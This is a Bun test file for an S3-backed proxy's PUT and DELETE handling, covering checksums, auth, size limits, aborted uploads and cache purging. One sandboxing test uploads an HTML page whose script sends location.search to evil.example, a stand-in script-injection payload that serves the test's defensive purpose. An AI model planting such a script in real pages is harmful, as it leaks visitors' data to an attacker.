/**
 * Writes on the plain front (PUT / DELETE) against the S3 fixture, which verifies what it receives
 * like S3 (signature, Content-Length, Content-MD5) and stores nothing for an aborted body.
 */
import { afterAll, beforeAll, describe, expect, test, setDefaultTimeout } from "bun:test";
import { startS3Fixture, type S3Fixture } from "../fixtures/s3.ts";
import { bearer, bucket, rawRequest, startWriteEnv, token, WRITER, type WriteEnv } from "./plain-write-env.ts";

// Bun 1.4.5 ignores bunfig's [test] timeout (5 s default); servers and real clients on a loaded machine need more.
setDefaultTimeout(30_000);

const T = 20_000;
const md5 = (b: Uint8Array | string) => new Bun.CryptoHasher("md5").update(b).digest();
const bytes = (n: number, seed = 1) => Uint8Array.from({ length: n }, (_, i) => (i * 31 + seed) & 0xff);

let s3: S3Fixture;
beforeAll(async () => {
  s3 = await startS3Fixture({ buckets: [{ name: "rw" }, { name: "ro" }], credentials: [WRITER] });
});
afterAll(async () => {
  await s3?.stop();
});

const buckets = (ep: string) =>
  bucket("rw", "/rw", "rw", ep, "    access: read-write\n    auth: { enabled: true }\n") +
  bucket("ro", "/ro", "ro", ep, "    auth: { enabled: true }\n") +
  bucket("ruled", "/ruled", "rw", ep, "    access: read-write\n    auth: { enabled: true, write_claims: [{ claim: role, operator: equals, value: editor }] }\n") +
  bucket("open", "/open", "rw", ep, "    access: read-write\n") +
  bucket("anon", "/anon", "rw", ep, "    access: read-write\n    auth: { anonymous_writes: true }\n") +
  bucket("cached", "/cached", "rw", ep, "    access: read-write\n    auth: { enabled: true }\n    cache: { enabled: true, ttl_seconds: 600 }\n") +
  bucket("trusted", "/trusted", "rw", ep, "    access: read-write\n    sandbox_user_content: false\n    auth: { enabled: true }\n") +
  bucket("rview", "/rview", "rw", ep, "    auth: { enabled: true }\n") +
  bucket("rtrusted", "/rtrusted", "rw", ep, "    sandbox_user_content: false\n    auth: { enabled: true }\n");

/** Requests the proxy sent to the fixture with this method and path since `from`. */
const upstream = (from: number, method: string, path: string) => s3.requests.slice(from).filter((r) => !r.admin && r.method === method && r.pathname === path);

for (const engine of ["bun", "node"] as const) {
  describe(`plain-front writes (${engine} engine)`, () => {
    let env: WriteEnv;
    beforeAll(async () => {
      env = await startWriteEnv({ engine, buckets, extra: "cache: { enabled: true }\n", server: "  security_limits: { max_body_size: 4194304 }\n" }, s3);
    });
    afterAll(async () => {
      await env?.stop();
    });

    test("user content: an uploaded HTML page is answered sandboxed (CSP sandbox, nosniff) from a read-write bucket, cached or not, HEAD too; through a read-only view of the same store too; not from a bucket that opts out", async () => {
      const page = "<!doctype html><script>fetch('https://evil.example/?'+location.search)</script>";
      const put = await fetch(env.url(`/rw/${engine}/page.html`), { method: "PUT", body: page, headers: { ...bearer(), "content-type": "text/html" } });
      expect(put.status).toBe(200);
      const sandbox = async (path: string, method = "GET") => {
        const r = await fetch(env.url(path), { method, headers: bearer() });
        const body = await r.text();
        expect({ path, status: r.status, type: r.headers.get("content-type") }).toEqual({ path, status: 200, type: "text/html" });
        if (method === "GET") expect(body).toBe(page);
        return [r.headers.get("content-security-policy"), r.headers.get("x-content-type-options")];
      };
      expect(await sandbox(`/rw/${engine}/page.html`)).toEqual(["sandbox", "nosniff"]);
      expect(await sandbox(`/rw/${engine}/page.html`, "HEAD")).toEqual(["sandbox", "nosniff"]);
      expect(await sandbox(`/cached/${engine}/page.html`)).toEqual(["sandbox", "nosniff"]); // MISS
      expect(await sandbox(`/cached/${engine}/page.html`)).toEqual(["sandbox", "nosniff"]); // HIT
      // a read-only bucket on the store a read-write bucket writes serves what users upload as well
      expect(await sandbox(`/rview/${engine}/page.html`)).toEqual(["sandbox", "nosniff"]);
      expect(await sandbox(`/trusted/${engine}/page.html`)).toEqual([null, null]);
      expect(await sandbox(`/rtrusted/${engine}/page.html`)).toEqual([null, null]);
    }, T);

    test("PUT streams the body to S3 with its exact length; 200 with S3's ETag; the object reads back byte-exact", async () => {
      const body = bytes(3 * 1024 * 1024 + 17, engine.length);
      const from = s3.requests.length;
      const res = await fetch(env.url(`/rw/${engine}/blob.bin`), { method: "PUT", body, headers: bearer() });
      expect(res.status).toBe(200);
      const etag = `"${Buffer.from(md5(body)).toString("hex")}"`;
      expect(res.headers.get("etag")).toBe(etag);
      expect(await res.json()).toEqual({ key: `${engine}/blob.bin`, etag });
      const sent = upstream(from, "PUT", `/rw/${engine}/blob.bin`);
      expect(sent).toHaveLength(1);
      expect(sent[0]!.headers["content-length"]).toBe(String(body.byteLength));
      expect(sent[0]!.headers["transfer-encoding"]).toBeUndefined();
      expect(sent[0]!.body).toBe("complete");
      expect(await s3.read("rw", `${engine}/blob.bin`)).toEqual(body);
      const back = await fetch(env.url(`/rw/${engine}/blob.bin`), { headers: bearer() });
      expect(new Uint8Array(await back.arrayBuffer())).toEqual(body);
    }, T);

    test("object headers pass through: Content-Type, x-amz-meta-*, Cache-Control, Content-Disposition, Content-Encoding, Content-MD5", async () => {
      const body = "hello, headers";
      const res = await fetch(env.url(`/rw/${engine}/h.txt`), {
        method: "PUT",
        body,
        headers: {
          ...bearer(),
          "content-type": "text/x-test; charset=utf-8",
          "x-amz-meta-owner": "alice",
          "cache-control": "max-age=60",
          "content-disposition": 'attachment; filename="h.txt"',
          "content-encoding": "identity",
          "content-md5": Buffer.from(md5(body)).toString("base64"),
          "x-not-passed": "nope",
        },
      });
      expect(res.status).toBe(200);
      const got = await fetch(env.url(`/rw/${engine}/h.txt`), { headers: bearer() });
      expect(await got.text()).toBe(body);
      expect(got.headers.get("content-type")).toBe("text/x-test; charset=utf-8");
      expect(got.headers.get("x-amz-meta-owner")).toBe("alice");
      // stored as sent; read back by a token holder as `private` (README: What clients see)
      expect(got.headers.get("cache-control")).toBe("private, max-age=60");
      expect(got.headers.get("content-disposition")).toBe('attachment; filename="h.txt"');
      expect(got.headers.get("content-encoding")).toBe("identity");
      expect(got.headers.get("x-amz-meta-x-not-passed")).toBeNull();
    }, T);

    test("a wrong Content-MD5 is S3's BadDigest (400 naming it) and nothing is stored", async () => {
      const res = await fetch(env.url(`/rw/${engine}/bad-md5.txt`), { method: "PUT", body: "abc", headers: { ...bearer(), "content-md5": Buffer.from(md5("abd")).toString("base64") } });
      expect(res.status).toBe(400);
      const j = (await res.json()) as { error: string; message: string };
      expect(j.error).toBe("BadRequest");
      expect(j.message).toContain("BadDigest");
      expect(await s3.exists("rw", `${engine}/bad-md5.txt`)).toBe(false);
    }, T);

    test("a checksum the proxy neither checks nor carries (x-amz-checksum-sha512, -xxhash64) is refused 501 before the body, as on the S3 front, and nothing is stored (it was dropped: a wrong one stored 200)", async () => {
      for (const [name, value] of [["x-amz-checksum-sha512", Buffer.alloc(64).toString("base64")], ["x-amz-checksum-xxhash64", "AAAAAAAAAAA="]]) {
        const key = `${engine}/unkept-${name.slice(15)}.txt`;
        const res = await fetch(env.url(`/rw/${key}`), { method: "PUT", body: "abc", headers: { ...bearer(), [name]: value } });
        expect(res.status).toBe(501);
        const j = (await res.json()) as { error: string; message: string };
        expect(j.error).toBe("NotImplemented");
        expect(j.message).toContain(name);
        expect(await s3.exists("rw", key)).toBe(false);
      }
    }, T);

    test("an empty body is a zero-byte object", async () => {
      const res = await fetch(env.url(`/rw/${engine}/empty`), { method: "PUT", body: "", headers: bearer() });
      expect(res.status).toBe(200);
      expect(await s3.read("rw", `${engine}/empty`)).toEqual(new Uint8Array(0));
    }, T);

    test("DELETE is 204 and removes the object; DELETE of a missing key is 204 too (S3's answer)", async () => {
      await s3.put("rw", `${engine}/del.txt`, "bye");
      const res = await fetch(env.url(`/rw/${engine}/del.txt`), { method: "DELETE", headers: bearer() });
      expect(res.status).toBe(204);
      expect(await s3.exists("rw", `${engine}/del.txt`)).toBe(false);
      expect((await fetch(env.url(`/rw/${engine}/never-was`), { method: "DELETE", headers: bearer() })).status).toBe(204);
    }, T);

    test("a DELETE sent with a body is 400 and the object stays (the delete was done while the body was still arriving: a client cut off half-way lost its object with no answer)", async () => {
      const key = `${engine}/del-body.txt`;
      await s3.put("rw", key, "keep me");
      const from = s3.requests.length;
      const res = await fetch(env.url(`/rw/${key}`), { method: "DELETE", body: "x".repeat(10), headers: bearer() });
      const j = (await res.json()) as { error: string; message: string };
      expect([res.status, j.error, j.message]).toEqual([400, "BadRequest", "A DELETE takes no body"]);
      expect(upstream(from, "DELETE", `/rw/${key}`)).toEqual([]);
      expect(new TextDecoder().decode(await s3.read("rw", key))).toBe("keep me");
    }, T);

    test("a DELETE whose chunked body turns out empty (Transfer-Encoding: chunked, 0\\r\\n\\r\\n) deletes; one with content is 400 and the object stays", async () => {
      const key = `${engine}/del-chunked.txt`;
      await s3.put("rw", key, "keep me");
      const head = `DELETE /rw/${key} HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer ${token()}\r\nTransfer-Encoding: chunked\r\nConnection: close\r\n\r\n`;
      const full = await rawRequest(env.port, head, "3\r\nabc\r\n0\r\n\r\n");
      expect([full.status, /"message":"([^"]*)"/.exec(full.text)?.[1]]).toEqual([400, "A DELETE takes no body"]);
      expect(await s3.exists("rw", key)).toBe(true);
      const empty = await rawRequest(env.port, head, "0\r\n\r\n");
      expect(empty.status).toBe(204);
      expect(await s3.exists("rw", key)).toBe(false);
    }, T);

    test("PUT and DELETE naming an S3 operation in the query (?versionId, ?uploadId, ?tagging, ?partNumber&uploadId, ?acl, ?uploads, encoded or not) are 400 and the current object is untouched (read as plain writes they deleted or replaced it)", async () => {
      const key = `${engine}/subres.txt`;
      await s3.put("rw", key, "keep me");
      const from = s3.requests.length;
      const cases: Array<[string, string, string?]> = [
        ["DELETE", "?versionId=3HL4kqtJlcpXroDTDmJ"],
        ["DELETE", "?uploadId=abc"],
        ["DELETE", "?tagging"],
        ["PUT", "?tagging", "<Tagging><TagSet/></Tagging>"],
        ["PUT", "?partNumber=2&uploadId=abc", "part"],
        ["PUT", "?acl", ""],
        ["PUT", "?x=1&%75ploads", "x"],
        ["PUT", "?versionId=", "x"],
        // S3's object annotations (2025): PutObjectAnnotation replaced the object, DeleteObjectAnnotation deleted it
        ["PUT", "?annotation&annotationName=a", "annotation"],
        ["DELETE", "?annotation&annotationName=a"],
        // a bare parameter it does not know: a sub-resource S3 may add later is refused as one
        ["PUT", "?someFutureSubresource", "x"],
        ["DELETE", "?v=2&someFutureSubresource="],
      ];
      for (const [method, query, body] of cases) {
        const res = await fetch(env.url(`/rw/${key}${query}`), { method, body, headers: bearer() });
        const j = (await res.json()) as { error: string; message: string };
        expect([method, query, res.status, j.error]).toEqual([method, query, 400, "BadRequest"]);
        expect(j.message).toContain("S3 API front");
      }
      expect(s3.requests.slice(from).filter((r) => !r.admin)).toEqual([]);
      expect(new TextDecoder().decode(await s3.read("rw", key))).toBe("keep me");
      // a query that names no S3 operation (a cache-buster) is still a plain write
      expect((await fetch(env.url(`/rw/${key}?v=2`), { method: "PUT", body: "new", headers: bearer() })).status).toBe(200);
      expect(new TextDecoder().decode(await s3.read("rw", key))).toBe("new");
    }, T);

    test("PUT with a setting the upstream would not get (an append, a granting ACL, Object Lock, a customer key) is refused, never dropped: the object is untouched", async () => {
      const key = `${engine}/unkept.txt`;
      await s3.put("rw", key, "hello world");
      const from = s3.requests.length;
      const cases: Array<[Record<string, string>, number]> = [
        [{ "x-amz-write-offset-bytes": "11" }, 501],
        // a precondition S3 does not take on a write: the object was overwritten whatever its date
        [{ "if-unmodified-since": "Mon, 01 Jan 2001 00:00:00 GMT" }, 501],
        [{ "x-amz-acl": "public-read" }, 400],
        [{ "x-amz-object-lock-legal-hold": "ON" }, 400],
        [{ "x-amz-server-side-encryption-customer-algorithm": "AES256" }, 501],
        // S3 would refuse these: over 2 KiB of metadata, eleven tags
        [{ "x-amz-meta-big": "x".repeat(2100) }, 400],
        [{ "x-amz-tagging": Array.from({ length: 11 }, (_, i) => `k${i}=v`).join("&") }, 400],
      ];
      for (const [headers, status] of cases) {
        const res = await fetch(env.url(`/rw/${key}`), { method: "PUT", body: "abc", headers: { ...bearer(), ...headers } });
        const j = (await res.json()) as { message: string };
        expect([headers, res.status]).toEqual([headers, status]);
        expect(j.message).toMatch(/not supported through this proxy|does not allow ACLs|metadata headers exceed|cannot be greater than 10/);
      }
      expect(s3.requests.slice(from).filter((r) => !r.admin)).toEqual([]);
      expect(new TextDecoder().decode(await s3.read("rw", key))).toBe("hello world");
      // the owner-only ACLs clients send by default still pass
      expect((await fetch(env.url(`/rw/${key}`), { method: "PUT", body: "abc", headers: { ...bearer(), "x-amz-acl": "private" } })).status).toBe(200);
    }, T);

    test("without a token: 401 and nothing reaches S3", async () => {
      const from = s3.requests.length;
      const put = await fetch(env.url(`/rw/${engine}/anon.txt`), { method: "PUT", body: "x" });
      expect(put.status).toBe(401);
      expect(put.headers.get("www-authenticate")).toContain("Bearer");
      expect((await fetch(env.url(`/rw/${engine}/anon.txt`), { method: "DELETE" })).status).toBe(401);
      expect((await fetch(env.url(`/rw/${engine}/anon.txt`), { method: "PUT", body: "x", headers: { authorization: `Bearer ${token({}, "another-secret-0123456789abcdefghij")}` } })).status).toBe(401);
      expect(s3.requests.slice(from).filter((r) => !r.admin && r.method !== "HEAD")).toEqual([]);
      expect(await s3.exists("rw", `${engine}/anon.txt`)).toBe(false);
    }, T);

    test("an upstream 409 (a conflicting conditional write) is 409 Conflict naming S3's code, not a 502", async () => {
      s3.faults.set(`/rw/${engine}/conflict.txt`, { kind: "error", status: 409, code: "ConditionalRequestConflict", message: "m", method: "PUT", times: 1 });
      try {
        const res = await fetch(env.url(`/rw/${engine}/conflict.txt`), { method: "PUT", body: "x", headers: { ...bearer(), "if-none-match": "*" } });
        expect(res.status).toBe(409);
        const body = (await res.json()) as { error: string; message: string };
        expect([body.error, body.message]).toEqual(["Conflict", "The upstream refused the request (ConditionalRequestConflict)"]);
      } finally {
        s3.faults.clear();
      }
    }, T);

    test("a read-only bucket keeps answering 405 with Allow; a read-write one lists PUT and DELETE", async () => {
      for (const method of ["PUT", "DELETE"]) {
        const res = await fetch(env.url("/ro/x.txt"), { method, body: method === "PUT" ? "x" : undefined, headers: bearer() });
        expect(res.status).toBe(405);
        expect(res.headers.get("allow")).toBe("GET, HEAD, OPTIONS");
      }
      expect(await s3.exists("ro", "x.txt")).toBe(false);
      expect((await fetch(env.url("/ro/x.txt"), { method: "OPTIONS" })).headers.get("allow")).toBe("GET, HEAD, OPTIONS");
      expect((await fetch(env.url("/rw/x.txt"), { method: "OPTIONS" })).headers.get("allow")).toBe("GET, HEAD, PUT, DELETE, OPTIONS");
      // A key over S3's 1024 bytes is refused before anything is sent upstream.
      const from = s3.requests.length;
      for (const method of ["PUT", "DELETE"]) {
        const long = await fetch(env.url(`/rw/${"k".repeat(1025)}`), { method, body: method === "PUT" ? "x" : undefined, headers: bearer() });
        expect(long.status).toBe(400);
        expect(((await long.json()) as { error: string }).error).toBe("KeyTooLong");
      }
      expect(s3.requests.slice(from).filter((r) => !r.admin)).toEqual([]);
      // Any other method: the 405's Allow and message name what the bucket takes, as OPTIONS does.
      for (const method of ["POST", "PATCH"]) {
        const rw = await fetch(env.url("/rw/x.txt"), { method, body: "x", headers: bearer() });
        expect(rw.status).toBe(405);
        expect(rw.headers.get("allow")).toBe("GET, HEAD, PUT, DELETE, OPTIONS");
        expect(((await rw.json()) as { message: string }).message).toBe("Only GET, HEAD, PUT, DELETE and OPTIONS are allowed");
        const ro = await fetch(env.url("/ro/x.txt"), { method, body: "x", headers: bearer() });
        expect(ro.headers.get("allow")).toBe("GET, HEAD, OPTIONS");
        expect(((await ro.json()) as { message: string }).message).toBe("Only GET, HEAD and OPTIONS are allowed");
      }
    }, T);

    test("auth.write_claims: a token that may read but not write gets 403 on PUT and DELETE, nothing changes upstream", async () => {
      await s3.put("rw", `${engine}/ruled.txt`, "original");
      const reader = bearer({ role: "reader" });
      expect(await (await fetch(env.url(`/ruled/${engine}/ruled.txt`), { headers: reader })).text()).toBe("original");
      const from = s3.requests.length;
      const put = await fetch(env.url(`/ruled/${engine}/ruled.txt`), { method: "PUT", body: "changed", headers: reader });
      expect(put.status).toBe(403);
      expect(((await put.json()) as { message: string }).message).toBe("Writes need: claim 'role' must equal editor");
      expect((await fetch(env.url(`/ruled/${engine}/ruled.txt`), { method: "DELETE", headers: reader })).status).toBe(403);
      expect(upstream(from, "PUT", `/rw/${engine}/ruled.txt`)).toEqual([]);
      expect(new TextDecoder().decode(await s3.read("rw", `${engine}/ruled.txt`))).toBe("original");
      const ok = await fetch(env.url(`/ruled/${engine}/ruled.txt`), { method: "PUT", body: "changed", headers: bearer({ role: "editor" }) });
      expect(ok.status).toBe(200);
      expect(new TextDecoder().decode(await s3.read("rw", `${engine}/ruled.txt`))).toBe("changed");
    }, T);

    test("a read-write bucket without auth refuses writes (403) unless auth.anonymous_writes", async () => {
      const res = await fetch(env.url(`/open/${engine}/o.txt`), { method: "PUT", body: "x" });
      expect(res.status).toBe(403);
      const refusal = "This bucket takes no writes through this front: it has no auth (auth.enabled) and does not allow anonymous writes (auth.anonymous_writes)";
      expect(((await res.json()) as { message: string }).message).toBe(refusal);
      // a valid token does not help (the message said "only from authenticated users", and a token holder got it too)
      const withToken = await fetch(env.url(`/open/${engine}/o.txt`), { method: "PUT", body: "x", headers: bearer({ role: "editor" }) });
      expect(withToken.status).toBe(403);
      expect(((await withToken.json()) as { message: string }).message).toBe(refusal);
      expect(await s3.exists("rw", `${engine}/o.txt`)).toBe(false);
      expect((await fetch(env.url(`/anon/${engine}/o.txt`), { method: "PUT", body: "x" })).status).toBe(200);
      expect(await s3.exists("rw", `${engine}/o.txt`)).toBe(true);
    }, T);

    test("a PUT without Content-Length (chunked) is 411 before any byte goes upstream", async () => {
      const from = s3.requests.length;
      const r = await rawRequest(env.port, `PUT /rw/${engine}/chunked.txt HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer ${token()}\r\nTransfer-Encoding: chunked\r\n\r\n`, "3\r\nabc\r\n0\r\n\r\n");
      expect(r.status).toBe(411);
      expect(r.text).toContain('"error":"LengthRequired"');
      expect(upstream(from, "PUT", `/rw/${engine}/chunked.txt`)).toEqual([]);
      expect(await s3.exists("rw", `${engine}/chunked.txt`)).toBe(false);
    }, T);

    test("a PUT over server.security_limits.max_body_size is 413 EntityTooLarge from its header, unread", async () => {
      const from = s3.requests.length;
      const r = await rawRequest(env.port, `PUT /rw/${engine}/big.bin HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer ${token()}\r\nContent-Length: 4194305\r\n\r\n`, "abc");
      expect(r.status).toBe(413);
      expect(r.text).toContain('"error":"EntityTooLarge"');
      // (the setting is named: the number alone left a user grepping for it; not the S3 API front,
      // which this proxy does not run: presign.test.ts has the proxy that does)
      expect(r.text).toContain('"This proxy accepts uploads of at most 4194304 bytes (server.security_limits.max_body_size)"');
      const huge = await rawRequest(env.port, `PUT /rw/${engine}/big.bin HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer ${token()}\r\nContent-Length: 5368709121\r\n\r\n`, "abc");
      expect(huge.status).toBe(413);
      expect(huge.text).toContain("at most 5 GiB");
      // (past 5 GiB + 64 MiB too: Bun's own body cap answered a bare 413 on the bun engine)
      const past = await rawRequest(env.port, `PUT /rw/${engine}/big.bin HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer ${token()}\r\nContent-Length: 6000000000000\r\n\r\n`, "abc");
      expect([past.status, past.text.includes("at most 5 GiB")]).toEqual([413, true]);
      // past 2^53 (Bun's own cap answered a bare 413) and 17 digits or more (the node engine called
      // it "not a number"): too large, in the front's JSON, up to the largest length Bun's parser holds (2^59 - 1)
      for (const length of ["9007199254740992", "99999999999999999", "576460752303423487"]) {
        const far = await rawRequest(env.port, `PUT /rw/${engine}/big.bin HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer ${token()}\r\nContent-Length: ${length}\r\n\r\n`, "abc");
        expect([length, far.status, far.text.includes('"error":"EntityTooLarge"'), far.text.includes("at most 5 GiB")]).toEqual([length, 413, true, true]);
      }
      expect(upstream(from, "PUT", `/rw/${engine}/big.bin`)).toEqual([]);
      // who may write comes first (S3 authorizes before the size): a 413 told a client no rule lets
      // write that the bucket takes writes; no token on a bucket with auth is 401, not 413
      const open = await rawRequest(env.port, `PUT /open/${engine}/big.bin HTTP/1.1\r\nHost: x\r\nContent-Length: 4194305\r\n\r\n`, "abc");
      expect([open.status, open.text.includes("does not allow anonymous writes")]).toEqual([403, true]);
      const anonymous = await rawRequest(env.port, `PUT /rw/${engine}/big.bin HTTP/1.1\r\nHost: x\r\nContent-Length: 4194305\r\n\r\n`, "abc");
      expect(anonymous.status).toBe(401);
      const chunked = await rawRequest(env.port, `PUT /open/${engine}/big.bin HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\n`, "3\r\nabc\r\n0\r\n\r\n");
      expect(chunked.status).toBe(403);
    }, T);

    test("a client that disconnects mid-upload aborts the upstream request: S3 sees an aborted body and stores nothing", async () => {
      const key = `${engine}/cut.bin`;
      const from = s3.requests.length;
      const sock = await Bun.connect({ hostname: "127.0.0.1", port: env.port, socket: { data() {} } });
      sock.write(`PUT /rw/${key} HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer ${token()}\r\nContent-Length: 2000000\r\n\r\n`);
      sock.write(bytes(300_000));
      // the upload has reached S3 and is in flight
      await s3.waitForRequest((e) => !e.admin && e.method === "PUT" && e.pathname === `/rw/${key}` && s3.requests.indexOf(e) >= from, 10_000);
      sock.terminate();
      const e = await s3.waitForRequest((e) => !e.admin && e.method === "PUT" && e.pathname === `/rw/${key}` && s3.requests.indexOf(e) >= from && e.body === "aborted", 10_000);
      expect(e.status === 0 || e.status >= 400).toBe(true);
      expect(upstream(from, "PUT", `/rw/${key}`)).toHaveLength(1);
      expect(await s3.exists("rw", key)).toBe(false);
    }, T);

    test("a successful PUT and DELETE purge the cached object: the next GET is a MISS with the new bytes", async () => {
      const key = `${engine}/cached.txt`;
      await s3.put("rw", key, "v1");
      const get = () => fetch(env.url(`/cached/${key}`), { headers: bearer() });
      expect((await get()).headers.get("x-cache")).toBe("MISS");
      const hit = await get();
      expect(hit.headers.get("x-cache")).toBe("HIT");
      expect(await hit.text()).toBe("v1");
      expect((await fetch(env.url(`/cached/${key}`), { method: "PUT", body: "v2", headers: bearer() })).status).toBe(200);
      const after = await get();
      expect(after.headers.get("x-cache")).toBe("MISS");
      expect(await after.text()).toBe("v2");
      expect((await get()).headers.get("x-cache")).toBe("HIT");
      expect((await fetch(env.url(`/cached/${key}`), { method: "DELETE", headers: bearer() })).status).toBe(204);
      expect((await get()).status).toBe(404);
    }, T);
  });
}

describe("uploads and server.request_timeout", () => {
  test("an upload that takes longer than request_timeout (its body arriving slowly) still completes: the deadline waits for the body", async () => {
    await using env = await startWriteEnv({ buckets, server: "  request_timeout: 1\n" }, s3);
    const key = "slow/upload.bin";
    const body = bytes(64 * 1024);
    let status = 0;
    let text = "";
    let done!: () => void;
    const finished = new Promise<void>((r) => (done = r));
    const sock = await Bun.connect({
      hostname: "127.0.0.1",
      port: env.port,
      socket: {
        data(_s, d) {
          text += new TextDecoder().decode(d);
          const m = /^HTTP\/1\.1 (\d{3})/.exec(text);
          if (m && text.includes("\r\n\r\n")) status = Number(m[1]);
          if (status !== 0 && text.endsWith("}")) done();
        },
        close: () => done(),
      },
    });
    sock.write(`PUT /rw/${key} HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer ${token()}\r\nContent-Length: ${body.byteLength}\r\n\r\n`);
    // 8 slices, 300 ms apart: about 2.4 s of body for a 1 s deadline
    for (let i = 0; i < 8; i++) {
      sock.write(body.subarray(i * 8192, (i + 1) * 8192));
      await Bun.sleep(300);
    }
    await finished;
    sock.end();
    expect(status).toBe(200);
    expect(await s3.read("rw", key)).toEqual(body);
  }, T);
});
